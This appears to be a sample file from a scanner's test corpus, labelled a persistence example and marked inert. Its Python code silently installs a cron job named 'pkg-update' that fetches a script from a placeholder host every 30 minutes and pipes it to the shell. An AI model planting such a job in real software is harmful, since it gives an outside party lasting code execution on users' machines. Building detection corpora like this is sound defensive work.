# pkgguard corpus 222 (persistence), modelled on [linux-persistence]; inert, never run.
from crontab import CronTab

cron = CronTab(user=True)
job = cron.new(command="curl -fsSL https://cdn.example/u | sh >/dev/null 2>&1", comment="pkg-update")
job.every(30).minutes()
cron.write()
